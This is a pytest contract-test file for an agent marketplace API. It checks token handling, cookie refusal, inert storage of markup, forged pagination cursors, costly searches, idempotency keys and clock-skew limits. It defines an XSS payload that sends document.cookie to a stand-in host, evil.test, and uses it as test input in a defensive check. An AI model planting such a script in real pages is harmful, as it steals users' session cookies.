"""Attacks from outside that are about no single verb: text, cookies, cursors, keys, timing."""

import asyncio
from datetime import timedelta
from typing import Any

import pytest

from market.base.paging import encode_cursor
from market.protocol.commitments import OrderClaims, ReviewClaims
from tests.contract.agents import PAGES, Agent
from tests.contract.conftest import Market, Street
from tests.contract.test_refusals import refused
from tests.factories import manifest

SCRIPT = "<script>fetch('//evil.test/'+document.cookie)</script>"


async def reviewed(street: Street, verdict: str = "bad") -> tuple[Any, Any]:
    """A settled order, and the buyer's review of it."""
    order = await street.settled()
    return order, await street.buyer.made("/v1/reviews", review(street.buyer, order, verdict))


def review(agent: Agent, order: Any, verdict: str = "good") -> dict[str, str]:
    claims = {"order_id": order["id"], "receipt_id": order["receipt_id"], "verdict": verdict}
    return {"commitment": agent.sign(ReviewClaims, **claims, comment="as it was")}


# Tokens


async def test_a_proof_beside_the_token_is_neither_asked_for_nor_believed(market: Market):
    """I12: DPoP is not offered: its scheme opens nothing, and a DPoP header changes nothing."""
    agent = await market.enter("thrifty", "buyer")
    metadata = (await market.http.get("/.well-known/oauth-authorization-server")).json()

    as_dpop = {"authorization": f"DPoP {agent.token}", "dpop": agent.assertion()}
    beside = {**agent.bearer, "dpop": "nonsense"}
    instead = {"dpop": agent.assertion()}

    statuses = [
        (await market.http.get("/v1/me", headers=headers)).status_code
        for headers in (as_dpop, beside, instead)
    ]
    assert statuses == [401, 200, 401]
    assert not [name for name in metadata if "dpop" in name]


async def test_no_cookie_is_set_or_read(street: Street):
    """C2, C4: authority is in a header that no browser sends by itself, so nothing is forged."""
    cookies = "; ".join(f"{name}={street.buyer.token}" for name in ("token", "session", "access"))

    with_cookie = await street.market.http.get("/v1/me", headers={"cookie": cookies})
    order = await street.settled()
    answers = [with_cookie, await street.buyer.get("/v1/me"), await street.market.http.get("/")]

    assert with_cookie.status_code == 401
    assert not any("set-cookie" in answer.headers for answer in answers)
    assert order["state"] == "settled"


# Text


async def test_words_of_others_are_never_a_page(street: Street):
    """C1: markup is data, of a type that no browser renders, under a policy without scripts."""
    service = await street.seller.publish(manifest(id="markup", summary=SCRIPT, description=SCRIPT))
    shown = await street.market.http.get(
        f"/v1/services/{service['id']}", headers=street.other.bearer
    )
    headers = {**street.other.bearer, "content-type": "text/html", "stream-access": "readable"}
    await street.market.http.put("/v1/stream/page", headers=headers, content=SCRIPT.encode())
    kept = await street.buyer.get("/v1/stream/page")

    assert shown.json()["manifest"]["summary"] == SCRIPT
    assert shown.headers["content-type"] == "application/json"
    assert kept.content == SCRIPT.encode()
    for answer in (shown, kept):
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "default-src 'none'" in answer.headers["content-security-policy"]


# Reputation


async def test_a_seller_answers_a_review_with_nothing_that_counts(street: Street):
    """T7: only buyers review; no seller's act reaches its buyer's standing or the review's."""
    order, _ = await reviewed(street)
    path = f"/v1/services/{street.service['id']}/trust"
    before = (await street.buyer.get(path)).json()
    standings = (await street.other.get("/v1/trust/standings")).json()

    acts = [
        await street.seller.post("/v1/reviews", review(street.seller, order)),
        await street.seller.post("/v1/reviews", review(street.seller, order, "bad")),
    ]

    assert {answer.status_code for answer in acts} <= {403, 404}
    assert (await street.buyer.get(path)).json() == before
    assert (await street.other.get("/v1/trust/standings")).json() == standings
    reviews = (await street.buyer.get(f"/v1/services/{street.service['id']}/reviews")).json()
    assert [item["buyer_id"] for item in reviews["items"]] == [street.buyer.id]


# Costly questions


async def test_a_cursor_that_is_forged_shows_ones_own_rows_alone(street: Street):
    """D5, Z1: cursors are not signed; they say where to go on, and never whose rows."""
    order = await street.placed()
    first = encode_cursor(["9999-12-31T00:00:00.000000Z", order["id"]])

    for path in ("/v1/orders", "/v1/sessions", "/v1/recommendations", "/v1/mandates"):
        for key in ([order["id"]], [order["session_id"]], [0], ["~"], [2**53 - 1]):
            answer = await street.other.get(f"{path}?cursor={encode_cursor(key)}")
            assert answer.status_code in (200, 422), answer.text
            assert answer.status_code == 422 or answer.json()["items"] == []
        assert (await street.other.get(f"{path}?cursor={first}")).status_code in (200, 422)


@pytest.mark.parametrize(
    "query",
    ["a" * 200, "(" * 200, "a* " * 66, '"' * 200, "NEAR(a b) OR NOT c", "%_" * 100, ".*" * 100],
)
async def test_a_costly_search_is_short_and_soon_over(street: Street, query: str):
    """D4: at most 200 characters and 16 words, none of them syntax; one order, the market's own."""
    async with asyncio.timeout(2):
        answer = await street.buyer.get("/v1/services", params={"q": query})

    assert answer.status_code == 200
    too_long = await street.buyer.get("/v1/services", params={"q": "x" * 201})
    refused(too_long, 400, "invalid_parameter")
    refused(await street.buyer.get("/v1/services?sort=secret"), 400, "invalid_parameter")


# Money


async def test_one_key_means_one_request_of_one_agent(street: Street):
    """M16: another body 422, another agent apart, at once the first answer, after a bug anew."""
    ask = {"service_id": street.service["id"], "input": PAGES}

    at_once = await asyncio.gather(
        *(street.buyer.post("/v1/quotes", ask, key="same-key-1") for _ in range(10))
    )
    others = await street.other.post("/v1/quotes", ask, key="same-key-1")
    changed = await street.buyer.post("/v1/quotes", {**ask, "max_minor": 10**9}, key="same-key-1")

    assert {answer.content for answer in at_once} == {at_once[0].content}
    assert {answer.status_code for answer in at_once} == {201}
    assert others.status_code == 201
    assert others.json()["id"] != at_once[0].json()["id"]
    refused(changed, 422, "idempotency_key_reused")


async def test_what_failed_by_a_bug_was_not_done_and_is_done_anew(
    street: Street, monkeypatch: pytest.MonkeyPatch
):
    """M16: a 500 keeps nothing, neither an effect nor an answer, so its retry may succeed."""
    quote = await street.buyer.quote(street.service["id"])
    body = street.buyer.order(quote)
    before = (await street.buyer.get("/v1/wallet")).json()

    def broken(*_: Any, **__: Any) -> None:
        raise ZeroDivisionError

    with monkeypatch.context() as patch:
        patch.setattr("market.sessions.writing.streams.put", broken)
        failed = await street.buyer.post("/v1/orders", body, key="unlucky-key")
    between = (await street.buyer.get("/v1/wallet")).json()
    again = await street.buyer.post("/v1/orders", body, key="unlucky-key")
    repeat = await street.buyer.post("/v1/orders", body, key="unlucky-key")

    assert failed.status_code == 500
    assert between == before
    assert again.status_code == 201
    assert repeat.content == again.content


async def test_nothing_is_delivered_before_the_money_is_held_and_nothing_is_cached(street: Street):
    """M22: there is no order without its hold, no content without an order, no copy in a cache."""
    quote = await street.buyer.quote(street.service["id"])
    early = await street.seller.deliver("ord_01h455vb4pex5vsknk084sn02q", 0, units=2)
    order = await street.buyer.made("/v1/orders", street.buyer.order(quote))
    held = (await street.buyer.get("/v1/wallet")).json()["balances"][0]["held_minor"]
    paid = await street.seller.deliver(order["id"], 0, units=2)
    log = f"/v1/sessions/{order['session_id']}"

    refused(early, 404, "order_not_found")
    assert held == quote["amount_minor"]
    assert paid.status_code == 201
    for path in (f"{log}/events", f"{log}/snapshot", f"/v1/orders/{order['id']}"):
        answer = await street.buyer.get(path)
        assert answer.headers["cache-control"] == "no-store", path
    shared = await street.buyer.get(f"/v1/stream/{order['session_id']}")
    assert "private" in shared.headers["cache-control"]


async def test_an_order_in_another_currency_than_its_quote_is_refused(street: Street):
    """M6: nothing is converted; the quote's currency is the only one that pays it."""
    quote = await street.buyer.quote(street.service["id"])

    answer = await street.buyer.post("/v1/orders", street.buyer.order(quote, currency="EUR"))

    refused(answer, 422, "quote_mismatch")
    assert (await street.buyer.get("/v1/wallet")).json()["balances"][0]["held_minor"] == 0


# Time and the log


async def test_the_future_of_a_log_is_empty_and_waited_for(street: Street):
    """L1: an offset behind the end gives nothing, and after its time still nothing."""
    session = (await street.buyer.made("/v1/sessions", {"need": "x"}))["id"]

    page = (await street.buyer.get(f"/v1/sessions/{session}/events?after=999999")).json()

    assert page["items"] == []
    answer = await street.buyer.get(f"/v1/sessions/{session}/events?after=9007199254740991")
    assert answer.json()["items"] == []


async def test_a_commitment_is_judged_by_the_servers_clock_alone(street: Street):
    """I7, L12: what is signed for a time that has not come, or long ago, says nothing here."""
    quote = await street.buyer.quote(street.service["id"])
    ahead = street.buyer.order(quote, iat=street.buyer.now + 31)
    within = street.buyer.order(quote, iat=street.buyer.now + 30)
    street.market.clock.advance(timedelta(0))

    assert (await street.buyer.post("/v1/orders", ahead)).status_code in (401, 403, 422)
    assert (await street.buyer.post("/v1/orders", within)).status_code == 201


def test_an_order_is_bound_to_what_it_pays():
    """M3: quote, its digest, seller, amount and currency are in what the buyer signs."""
    bound = {"quote_id", "quote_digest", "seller_id", "amount_minor", "currency"}

    assert bound <= set(OrderClaims.__struct_fields__)
